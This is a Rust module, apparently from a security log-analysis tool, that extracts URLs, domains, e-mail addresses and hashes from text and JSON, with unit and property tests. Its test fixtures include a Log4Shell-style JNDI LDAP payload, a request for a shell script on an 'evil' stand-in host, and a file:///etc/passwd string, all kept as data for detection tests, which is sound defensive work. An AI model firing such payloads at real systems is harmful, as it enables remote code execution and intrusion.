//! Observables in texts that machines wrote: URLs, domains, e-mail addresses and hashes, by their shape. What could as well be something
//! else is left alone. Time grows with the length of the text and no faster.

use serde_json::Value;

use super::domain;
use super::{Kind, Observable, host};

/// Schemes of the URLs that are looked for: those that attacks are carried out with.
const SCHEMES: [&str; 12] = ["http", "https", "ftp", "ftps", "sftp", "tftp", "smb", "ldap", "ldaps", "rmi", "ws", "wss"];

/// Tells `found` of each observable in a text, in order; of one that stands there twice, twice.
pub fn find_in_text(text: &str, found: &mut impl FnMut(Observable)) {
    // Nothing in a URL that is written as it has to be (RFC 3986) ends one of these pieces.
    let ends_piece =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '\\' | '^' | '{' | '|' | '}');
    for piece in text.split(ends_piece) {
        match url_in(piece) {
            Some((before, url)) => {
                find_words(before, found);
                if let Some(host) = host(&url) {
                    found(host);
                }
                found(url);
            }
            None => find_words(piece, found),
        }
    }
}

/// The same for every text in a piece of JSON; names of fields are ours, or a device's.
pub fn find_in_json(value: &Value, found: &mut impl FnMut(Observable)) {
    match value {
        Value::String(text) => find_in_text(text, found),
        Value::Array(values) => values.iter().for_each(|value| find_in_json(value, found)),
        Value::Object(fields) => fields.values().for_each(|value| find_in_json(value, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// What stands before a URL, and the URL, which goes up to the end but for what closes a sentence or a bracket around it.
fn url_in(piece: &str) -> Option<(&str, Observable)> {
    let colon = piece.find("://")?;
    let letters = piece[..colon].bytes().rev().take_while(u8::is_ascii_alphabetic).count();
    let (before, rest) = piece.split_at(colon - letters);
    if !SCHEMES.iter().any(|scheme| scheme.eq_ignore_ascii_case(&rest[..letters])) {
        return None;
    }
    let (round, square) = (rest.contains('('), rest.contains('['));
    let closes = |c| match c {
        ')' => !round,
        ']' => !square,
        c => matches!(c, '.' | ',' | ';' | ':' | '!' | '?'),
    };
    let url = rest.trim_end_matches(closes);
    Observable::new(Kind::Url, url).ok().map(|url| (before, url))
}

/// Words, at which neither a path nor a call nor text in another script ends or begins.
fn find_words(text: &str, found: &mut impl FnMut(Observable)) {
    let is_word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '+' | '%' | '@') || !c.is_ascii();
    let mut rest = text;
    let mut before = ' ';
    while !rest.is_empty() {
        let end = rest.find(|c| !is_word(c)).unwrap_or(rest.len());
        let (word, more) = rest.split_at(end);
        let after = more.chars().next();
        if let Some(observable) = meaning(word, before, after) {
            found(observable);
        }
        rest = match after {
            Some(c) => {
                before = c;
                &more[c.len_utf8()..]
            }
            None => "",
        };
    }
}

fn meaning(word: &str, before: char, after: Option<char>) -> Option<Observable> {
    let word = word.trim_matches(['.', '-', '%', '+']);
    if !word.is_ascii() || word.len() < 4 {
        return None;
    }
    if let Some((_, host)) = word.split_once('@') {
        let email = Observable::new(Kind::Email, word).ok()?;
        return domain::has_known_top(&host.to_ascii_lowercase()).then_some(email);
    }
    // A number of so many digits is no hash.
    if word.bytes().any(|b| b.is_ascii_digit())
        && word.bytes().any(|b| b.is_ascii_alphabetic())
        && let Ok(hash) = Observable::new(Kind::Hash, word)
    {
        return Some(hash);
    }
    if before == '/' || after == Some('(') || word.contains(['_', '+', '%']) {
        return None;
    }
    Observable::new(Kind::Domain, word).ok().filter(|name| domain::is_for_sure(name.value()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn found(text: &str) -> Vec<String> {
        let mut all = Vec::new();
        find_in_text(text, &mut |observable| all.push(format!("{}:{}", observable.kind(), observable.value())));
        all
    }

    #[test]
    fn what_is_meant_is_found() {
        for (text, want) in [
            (
                "GET http://Evil.example.com:8080/a.sh?x=(1), then",
                &["domain:evil.example.com", "url:http://evil.example.com:8080/a.sh?x=(1)"][..],
            ),
            ("see <https://evil.com/x>.", &["domain:evil.com", "url:https://evil.com/x"]),
            ("(https://192.0.2.1/x)", &["address:192.0.2.1", "url:https://192.0.2.1/x"]),
            ("${jndi:ldap://192.0.2.7:1389/Exploit}", &["address:192.0.2.7", "url:ldap://192.0.2.7:1389/Exploit"]),
            ("rhost=host.evil.net user=root", &["domain:host.evil.net"]),
            ("connect from mail.example.org[192.0.2.3]:25", &["domain:mail.example.org"]),
            ("from=<Ada.L@Example.com>, to=<bob@example.rs>", &["email:ada.l@example.com", "email:bob@example.rs"]),
            ("md5=D41D8CD98F00B204E9800998ECF8427E.", &["hash:d41d8cd98f00b204e9800998ecf8427e"]),
            ("sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709", &["hash:da39a3ee5e6b4b0d3255bfef95601890afd80709"]),
            ("query: evil.com. IN A", &["domain:evil.com"]),
        ] {
            assert_eq!(found(text), want, "{text}");
        }
    }

    #[test]
    fn what_may_be_something_else_is_left_alone() {
        for text in [
            "src/main.rs:12 in foo.rs",
            "OpenSSH_8.9p1 Debian-3+deb12u1 1.2.3.4-5",
            "/var/www/evil.com/index.html",
            "libc.so.6 main.cf user.id=5 node.name",
            "obj.to(x) value.it()",
            "12345678901234567890123456789012",
            "0xd41d8cd98f00b204e9800998ecf8427e",
            "d41d8cd98f00b204e9800998ecf8427e0",
            "d41d8cd9-8f00-b204-e980-0998ecf8427e",
            "user@1000.service root@localhost git@",
            "file:///etc/passwd x://y.z :// http://",
            "org.apache.commons.net com.example.uk",
            "b\u{fc}cher.de",
            "the end.of a sentence",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn fields_are_looked_through_and_their_names_are_not() {
        let fields = serde_json::json!({ "evil.com": 1, "a": [{ "url": "http://a.com/" }, null], "b": "x@b.com", "c": 5.5 });
        let mut all = Vec::new();
        find_in_json(&fields, &mut |observable| all.push(observable.value().to_owned()));
        all.sort_unstable();
        assert_eq!(all, ["a.com", "http://a.com/", "x@b.com"]);
    }

    proptest! {
        /// Whatever the text: nothing panics, and what is found stands there but for the case of its letters.
        #[test]
        fn what_is_found_stands_in_the_text(text in "\\PC{0,200}|([a-z0-9.:/@\\[\\]()_-]|http://|\u{e9}|\\.com|[ \"<>]){0,60}") {
            let lower = text.to_ascii_lowercase();
            find_in_text(&text, &mut |observable| {
                let value = observable.value().to_ascii_lowercase();
                // An address has other forms.
                assert!(observable.kind() == Kind::Address || lower.contains(&value), "{value:?} in {text:?}");
                assert_eq!(Observable::new(observable.kind(), observable.value()), Ok(observable));
            });
        }

        #[test]
        fn bytes_of_any_kind_are_a_text(bytes in proptest::collection::vec(any::<u8>(), 0..500)) {
            find_in_text(&String::from_utf8_lossy(&bytes), &mut |_| {});
        }

        #[test]
        fn what_is_put_into_a_text_is_found(host in "[a-z]{3,10}\\.(com|net|co\\.uk)", path in "[a-z0-9]{1,9}", around in "[ \"<>]{1,3}") {
            let text = format!("x{around}http://www.{host}/{path}{around}y");
            let url = format!("url:http://www.{host}/{path}");
            prop_assert!(found(&text).contains(&url));
        }
    }
}
